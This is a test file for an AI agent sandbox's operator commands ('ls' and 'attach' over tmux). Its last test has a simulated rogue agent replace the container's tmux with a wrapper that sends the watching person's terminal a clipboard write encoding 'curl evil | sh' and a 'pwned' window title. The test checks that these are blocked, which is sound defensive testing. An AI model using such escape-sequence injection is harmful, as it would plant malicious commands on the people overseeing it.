import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { containerName } from '../../../src/sandbox/container/container.js';
import { describeWithEngine } from '../../helpers/engine.js';
import { createTestInstance, type TestInstance } from '../../helpers/test-instance.js';
import { BIN, connectStdio, ensureBuilt, waitFor } from './helpers.js';

const run = promisify(execFile);

describeWithEngine('the operator view: agent-kernel ls and attach (real container, real tmux)', () => {
  let test: TestInstance;
  // A person's terminal: a tmux session on the host, on a socket of its own.
  const person = `ak-person-${process.pid}`;
  const tmux = (...args: string[]) => run('tmux', ['-L', person, '-f', '/dev/null', ...args]);
  const screen = async (session: string) => (await tmux('capture-pane', '-p', '-t', session)).stdout;

  beforeAll(async () => {
    await ensureBuilt();
    test = await createTestInstance();
  });
  afterAll(async () => {
    await tmux('kill-server').catch(() => undefined);
    await test?.cleanup();
  });

  it('ls lists the TTYs with program, state and unseen output', async () => {
    const session = await connectStdio(test.dataDir);
    await session.call('login');
    await session.call('wait', { timeout: 5 });
    await session.call('type', { tty: 0, expect: 'bash', text: 'echo marker-$((20+3))' });
    await waitFor(session.call, /^marker-23$/m);
    await session.close();

    const { stdout } = await run(process.execPath, [BIN, 'ls', test.dataDir]);
    const lines = stdout.trim().split('\n');
    expect(lines[0]).toMatch(/^TTY\s+PROGRAM\s+STATE\s+UNSEEN\s+LAST ACTIVITY\s+COMMAND$/);
    // The shell is back at its prompt: idle, not running (the status file follows the shell's marks).
    expect(lines[1]).toMatch(/^0\s+bash\s+idle\s+-\s+\S+Z\s+bash$/);
    const json = JSON.parse((await run(process.execPath, [BIN, 'ls', test.dataDir, '--json'])).stdout) as Array<{ tty: number }>;
    expect(json.map((r) => r.tty)).toEqual([0]);
  });

  it('attach shows the TTY read-only: keys a person types do not reach it', async () => {
    // Each attach gets a session of its own: killing the last session ends the tmux server, and a
    // new-session racing that exit fails ("server exited unexpectedly").
    await tmux('new-session', '-d', '-s', 'ro', '-x', '100', '-y', '20', `${process.execPath} ${BIN} attach ${test.dataDir} 0`);
    await expect.poll(() => screen('ro'), { timeout: 30_000 }).toMatch(/^marker-23$/m);
    await tmux('send-keys', '-t', 'ro', 'echo should-not-run-$((1+1))', 'Enter');
    // The read-only client drops keys; what the TTY shows is still the same prompt.
    await tmux('new-session', '-d', '-s', 'rw', '-x', '100', '-y', '20', `${process.execPath} ${BIN} attach ${test.dataDir} 0 --write`);
    await expect.poll(() => screen('rw'), { timeout: 30_000 }).toMatch(/^marker-23$/m);
    expect(await screen('rw')).not.toContain('should-not-run-2');
    // Read-only keys are no longer sent into the container at all (its tmux is the agent's to replace): Ctrl-b d still ends the watch.
    await tmux('send-keys', '-t', 'ro', 'C-b', 'd');
    await expect.poll(async () => (await tmux('has-session', '-t', 'ro').then(() => true, () => false)), { timeout: 10_000 }).toBe(false);
  });

  it('a read-only attach ended by Ctrl-c, Ctrl-b d or a hang-up leaves no tmux client running in the container', async () => {
    const readOnlyClients = async () =>
      (await run('docker', ['exec', containerName(test.name), 'ps', '-eo', 'args='])).stdout.split('\n').filter((line) => /^tmux .* attach -r /.test(line));
    expect(await readOnlyClients()).toEqual([]);
    for (const [session, end] of [
      ['ro-c', () => tmux('send-keys', '-t', 'ro-c', 'C-c')],
      ['ro-d', () => tmux('send-keys', '-t', 'ro-d', 'C-b', 'd')],
      // The person closes the terminal window.
      ['ro-hup', () => tmux('kill-session', '-t', 'ro-hup')],
    ] as const) {
      await tmux('new-session', '-d', '-s', session, '-x', '100', '-y', '20', `${process.execPath} ${BIN} attach ${test.dataDir} 0`);
      await expect.poll(() => screen(session), { timeout: 30_000 }).toMatch(/^marker-23$/m);
      expect(await readOnlyClients()).toHaveLength(1);
      await end();
      await expect.poll(async () => tmux('has-session', '-t', session).then(() => true, () => false), { timeout: 10_000 }).toBe(false);
      await expect.poll(readOnlyClients, { timeout: 10_000 }).toEqual([]);
    }
  });

  it('attach --write lets the person type', async () => {
    await tmux('send-keys', '-t', 'rw', 'echo typed-by-a-person-$((2*3))', 'Enter');
    await expect.poll(() => screen('rw'), { timeout: 30_000 }).toMatch(/^typed-by-a-person-6$/m);
  });

  it('attach to a TTY that is not open says so and exits with an error', async () => {
    await expect(run('script', ['-qec', `${process.execPath} ${BIN} attach ${test.dataDir} 7`, '/dev/null'])).rejects.toMatchObject({
      stdout: expect.stringMatching(/TTY 7 of .* is not open/),
    });
  });

  it("attach keeps what the container's tmux draws off the person's clipboard and title", async () => {
    // The agent is root in its container: it puts a tmux of its own in front of the real one.
    const wrapper = [
      'mv /usr/bin/tmux /usr/bin/tmux.real',
      "printf '%s\\n' '#!/bin/sh' 'case \" $* \" in *\" attach \"*) printf \"\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007\\033]2;pwned-title\\007\";; esac' 'exec /usr/bin/tmux.real \"$@\"' > /usr/bin/tmux",
      'chmod +x /usr/bin/tmux',
    ].join(' && ');
    await run('docker', ['exec', containerName(test.name), 'sh', '-c', wrapper]);
    // The person's terminal keeps a clipboard write as a paste buffer, and a title as its pane's title.
    await tmux('new-session', '-d', '-s', 'clip', '-x', '100', '-y', '20', `${process.execPath} ${BIN} attach ${test.dataDir} 0`);
    await tmux('set', '-g', 'set-clipboard', 'on');
    await expect.poll(() => screen('clip'), { timeout: 30_000 }).toMatch(/^typed-by-a-person-6$/m);
    expect((await tmux('list-buffers')).stdout).toBe('');
    expect((await tmux('display', '-p', '-t', 'clip', '#{pane_title}')).stdout).not.toContain('pwned');
  });
});
